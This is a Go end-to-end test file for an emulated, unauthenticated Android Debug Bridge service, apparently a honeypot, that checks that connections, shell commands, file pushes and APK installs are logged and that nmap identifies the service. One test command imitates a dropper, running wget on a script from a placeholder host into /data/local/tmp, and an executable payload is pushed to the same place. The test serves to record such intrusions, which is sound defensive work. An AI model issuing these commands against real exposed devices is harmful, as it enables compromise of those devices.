package e2e

import (
	"crypto/sha256"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestServicesADB: the real adb client (Debian's adb 29) connects to the
// device on 5555 without auth, runs shell commands through our Android
// shell and pushes a file; each command line and the file (name, size,
// SHA-256) are recorded. nmap -sV names the service adb.
func TestServicesADB(t *testing.T) {
	t.Parallel()
	Require(t, "adb")
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start()
	home := filepath.Join(l.Dir, "home") // adb keys are generated here
	if err := os.MkdirAll(home, 0o700); err != nil {
		t.Fatal(err)
	}
	// the adb server runs in the foreground in the client namespace, as a
	// process of ours, killed by PID at the end
	srv := exec.Command("ip", "netns", "exec", l.Client, "env", "HOME="+home, "adb", "nodaemon", "server")
	srvLog, err := os.Create(filepath.Join(l.Dir, "adb-server.log"))
	if err != nil {
		t.Fatal(err)
	}
	srv.Stdout, srv.Stderr = srvLog, srvLog
	if err := srv.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = srv.Process.Kill()
		_ = srv.Wait()
	})
	adb := func(args ...string) (string, error) {
		st := time.Now()
		out, err := l.InClient(30*time.Second, "env", append([]string{"HOME=" + home, "adb"}, args...)...)
		t.Logf("adb %v: %v %v\n%s", args, time.Since(st), err, out)
		return out, err
	}
	// until our server listens: a client finding no server would start
	// a daemon of its own
	for i := 0; ; i++ {
		if out, _ := l.InClient(5*time.Second, "ss", "-ltnH", "sport = :5037"); strings.Contains(out, "LISTEN") {
			break
		}
		if i == 100 {
			log, _ := os.ReadFile(srvLog.Name())
			t.Fatalf("adb server did not start:\n%s", log)
		}
		time.Sleep(100 * time.Millisecond)
	}
	target := RespIP4 + ":5555"
	out, err := adb("connect", target)
	if !strings.Contains(out, "connected to "+target) {
		log, _ := os.ReadFile(srvLog.Name())
		t.Fatalf("adb connect: %v\n%s\nserver: %s", err, out, log)
	}
	out, err = adb("devices", "-l")
	if err != nil || !strings.Contains(out, target) || !strings.Contains(out, "model:X96mini") {
		t.Errorf("adb devices: %v\n%s", err, out)
	}
	out, err = adb("-s", target, "shell", "uname -a; cd /data/local/tmp; wget http://203.0.113.5/x.sh")
	if !strings.Contains(out, "Linux localhost 4.9.113") || !strings.Contains(out, "wget: inaccessible or not found") {
		t.Errorf("adb shell: %v\n%s", err, out)
	}
	out, err = adb("-s", target, "shell", "getprop", "ro.product.model")
	if err != nil || strings.TrimSpace(out) != "X96mini" {
		t.Errorf("adb shell getprop: %v\n%q", err, out)
	}
	// a file larger than one DATA chunk and one WRTE
	payload := []byte(strings.Repeat("\x7fELF\x01\x01\x01 adb push e2e payload ", 12000))
	local := filepath.Join(l.Dir, "payload.bin")
	if err := os.WriteFile(local, payload, 0o755); err != nil {
		t.Fatal(err)
	}
	out, err = adb("-s", target, "push", local, "/data/local/tmp/x")
	if err != nil || !strings.Contains(out, "1 file pushed") {
		t.Errorf("adb push: %v\n%s", err, out)
	}
	out, err = adb("-s", target, "shell", "id")
	if err != nil || !strings.HasPrefix(out, "uid=2000(shell)") {
		t.Errorf("adb shell id: %v\n%q", err, out)
	}
	// a streamed install (abb_exec "package install -S SIZE"): the APK is
	// hashed as it comes and package manager says Success
	apk := []byte(strings.Repeat("PK\x03\x04 not really an APK ", 3000))
	apkPath := filepath.Join(l.Dir, "app.apk")
	if err := os.WriteFile(apkPath, apk, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err = adb("-s", target, "install", apkPath)
	if err != nil || !strings.Contains(out, "Success") {
		t.Errorf("adb install: %v\n%s", err, out)
	}
	_, _ = adb("disconnect", target)
	_, _ = adb("kill-server")

	recs := appEvents(t, l, "adb")
	sum := sha256.Sum256(payload)
	apkSum := sha256.Sum256(apk)
	var cnxn, wget, getprop, file, install bool
	for _, a := range recs {
		switch {
		case str(a["message"]) == "CNXN" && str(a["system_type"]) == "host":
			cnxn = true
		case str(a["command"]) == "uname -a; cd /data/local/tmp; wget http://203.0.113.5/x.sh":
			wget = strings.Contains(str(a["urls"]), "http://203.0.113.5/x.sh")
		case str(a["command"]) == "getprop ro.product.model":
			getprop = true
		case str(a["file"]) == "(package install)":
			install = str(a["size"]) == str(float64(len(apk))) && str(a["sha256"]) == hex.EncodeToString(apkSum[:])
		case str(a["file"]) == "/data/local/tmp/x":
			file = str(a["size"]) == str(float64(len(payload))) && str(a["sha256"]) == hex.EncodeToString(sum[:]) && str(a["mode"]) == "0755"
			if !file {
				t.Errorf("push record %v", a)
			}
		}
	}
	if !cnxn || !wget || !getprop || !file || !install {
		t.Errorf("records: cnxn %v wget %v getprop %v file %v install %v\n%v", cnxn, wget, getprop, file, install, recs)
	}
}

// TestServicesADBNmap: nmap -sV names adb on 5555 from our CNXN answer to
// its adbConnect probe. That probe (rarity 8) comes after
// DNSVersionBindReqTCP (rarity 3, whose ports include 5555), which
// masscanned's DNS handler answers on any port (as SMB answers
// SMBProgNeg, ...): with them on, nmap names 5555 after an earlier probe
// and never sends CNXN. So every other protocol is off here.
func TestServicesADBNmap(t *testing.T) {
	t.Parallel()
	Require(t, "nmap")
	list, err := exec.Command(Binary(t), "--list-protocols").CombinedOutput()
	if err != nil {
		t.Fatalf("--list-protocols: %v\n%s", err, list)
	}
	var others []string
	for _, line := range strings.Split(string(list), "\n")[1:] {
		if f := strings.Fields(line); len(f) > 1 && f[0] != "adb" {
			others = append(others, f[0])
		}
	}
	l := NewLab(t, LabOptions{NoClientIPv6: true})
	l.Start("--disable-proto", strings.Join(others, ","))
	out, err := l.InClient(120*time.Second, "nmap", "-sT", "-sV", "-Pn", "-n", "-p", "5555", RespIP4)
	if err != nil || !strings.Contains(out, "5555/tcp open  adb") || !strings.Contains(out, "Android Debug Bridge device") {
		t.Errorf("nmap: %v\n%s", err, out)
	}
}
